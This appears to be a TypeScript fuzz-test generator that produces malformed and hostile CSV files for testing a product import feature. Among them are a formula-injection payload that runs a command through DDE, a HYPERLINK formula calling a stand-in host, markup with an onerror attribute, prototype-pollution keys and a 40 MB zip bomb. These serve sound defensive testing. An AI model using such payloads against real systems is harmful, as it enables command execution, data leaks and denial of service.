import { deflateRawSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import type { Random } from "#kit/random.ts";
import { mutation } from "#kit/hostile.ts";
import { zipOf } from "./bytes.ts";
import { stowaway, type HostileFile } from "./hostile-file.ts";

const head = "Slug,Name,Weight (g),Stock";
const good = `${head}\r\nsuria-bar,Suria,1.00,3\r\n`;

/** Files for the CSV import: not a sheet, an endless one, or one with more than cells in it. */
export function csvFiles(random: Random, count: number): HostileFile[] {
  const long = "x".repeat(2_000_000);
  const tries: [string, Buffer | string][] = [
    ["a sheet", good],
    ["nothing", ""],
    ["a heading alone", head],
    ["NULs", good.replaceAll("s", "\0")],
    ["UTF-16", Buffer.from(`\ufeff${good}`, "utf16le")],
    ["UTF-8 with a mark", `\xef\xbb\xbf${good}`],
    ["latin1", good.replace("Suria", "Suri\xe4")],
    ["a workbook", zipOf("xl/workbook.xml", Buffer.from("<workbook/>"))],
    ["a workbook that unfolds to 40 MB", bomb("xl/sharedStrings.xml")],
    ["gzip", gzipSync(good)],
    ["a quote that never ends", `${head}\n"suria`],
    ["quotes within quotes", `${head}\n"su"ria",x,1,1\n`],
    ["one line of 2 MB", long],
    ["one cell of 2 MB", `${head}\nsuria,${long},1,1\n`],
    ["a million commas", `${head}\n${",".repeat(1_000_000)}\n`],
    ["a million columns", `${",".repeat(1_000_000)}\n`],
    ["a million empty lines", `${head}${"\n".repeat(1_000_000)}`],
    ["10,001 rows", `${head}\n${"a,b,1,1\n".repeat(10_001)}`],
    ["more than 5 MB", Buffer.alloc(5 * 1024 * 1024 + 1, "a")],
    [
      "formulas",
      `${head}\n=cmd|' /C calc'!A0,"=HYPERLINK(""http://fz.invalid/${stowaway}"")",1,1\n`,
    ],
    ["markup", `${head}\n"><fzx>,"<fzx onerror=1>",1,1\n`],
    ["a prototype", `Slug,__proto__,constructor\nx,y,z\n`],
    ["columns twice", `Slug,Slug\na,b\n`],
    ["semicolons", good.replaceAll(",", ";")],
    ["tabs", good.replaceAll(",", "\t")],
    ["line ends of an old Mac", good.replaceAll("\r\n", "\r")],
    ["huge numbers", `${head}\nx,y,1e309,99999999999999999999\n-1,-1,-1,-1\n,x,NaN,0x10\n`],
    ["surrogates alone", `${head}\n\xed\xa0\x80,y,1,1\n`],
    ["right to left", `${head}\nx,\xe2\x80\xaeairuS,1,1\n`],
    ["JSON", `{"slug":"${stowaway}"}`],
    ["HTML", `<!doctype html><table><tr><td>Slug</td></tr></table>`],
    ["a picture", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")],
  ];
  const sample = { seed: random.below(2 ** 31), numRuns: Math.max(0, count - tries.length) };
  for (const mutate of fc.sample(mutation(6), sample)) {
    tries.push(["a sheet with bytes changed", mutate(good)]);
  }
  return tries.map(([what, content]) => ({
    what: `CSV: ${what}`,
    bytes: Buffer.from(content as string, "latin1"),
    name: "products.csv",
    type: "text/csv",
    expected: "either",
    isCsv: true,
  }));
}

function bomb(name: string): Buffer {
  const zeros = deflateRawSync(Buffer.alloc(40_000_000));
  return zipOf(name, zeros, { deflated: true, size: 40_000_000 });
}
